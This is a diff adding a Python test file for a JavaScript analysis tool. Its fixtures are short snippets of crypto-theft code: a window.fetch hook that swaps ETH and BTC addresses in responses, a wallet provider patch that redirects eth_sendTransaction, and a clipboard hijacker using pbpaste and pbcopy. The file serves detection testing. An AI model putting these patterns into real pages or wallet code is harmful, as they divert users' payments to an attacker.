@@ -1,0 +1,52 @@
+"""Payments that are led astray."""
+
+import pytest
+
+from tests.analysis.languages.javascript.reading import facts
+
+ETH, BTC = "/0x[a-fA-F0-9]{40}/g", "/(1|3|bc1)[a-zA-HJ-NP-Z0-9]{25,42}/g"
+PAGE = (
+    "const old = window.fetch;\nwindow.fetch = async (...a) => {\n  const r = await old(...a);\n"
+    f"  return new Response((await r.text()).replace({ETH}, m).replace({BTC}, n));\n}};\n"
+)
+WALLET = (
+    "function patch(p) {\n  const old = p.request.bind(p);\n"
+    "  p.request = a => { if (a.method === 'eth_sendTransaction') a.params[0].to = mine; return old(a); };\n}\npatch(x);\n"
+)
+CLIP = (
+    "const { execSync } = require('child_process');\nconst c = execSync('pbpaste').toString();\n"
+    f"if ({BTC}.test(c)) execSync('pbcopy', {{input: mine}});\n"
+)
+
+
+def apis(source: str) -> set[str]:
+    return {use.api for use in facts(source).uses}
+
+
+@pytest.mark.parametrize(
+    ("source", "api"),
+    [(PAGE, "hook:payment-address"), (WALLET, "hook:ethereum.request"), (CLIP, "payment-address-swap")],
+)
+def test_it_is_told(source: str, api: str) -> None:
+    assert api in apis(source)
+
+
+@pytest.mark.parametrize(
+    ("source", "api"),
+    [
+        (PAGE.replace(BTC, "/x/g"), "hook:payment-address"),
+        (PAGE.replace("new Response", "check"), "hook:payment-address"),
+        (PAGE + "/* */\n" * 9000, "hook:nothing"),
+        (WALLET.replace(".to = mine", ".to == mine"), "hook:ethereum.request"),
+        (WALLET.replace("p.request.bind(p)", "0"), "hook:ethereum.request"),
+        (CLIP.replace("pbcopy", "cat"), "payment-address-swap"),
+        (CLIP.replace(BTC, "/x/"), "payment-address-swap"),
+    ],
+)
+def test_less_is_not(source: str, api: str) -> None:
+    assert api not in apis(source)
+
+
+def test_what_stands_far_from_the_replaced_function_is_another_thing() -> None:
+    far = PAGE.replace(f".replace({ETH}, m).replace({BTC}, n)", "") + "f();\n" * 9000 + f"g({ETH}, {BTC});\n"
+    assert "hook:payment-address" not in apis(far)
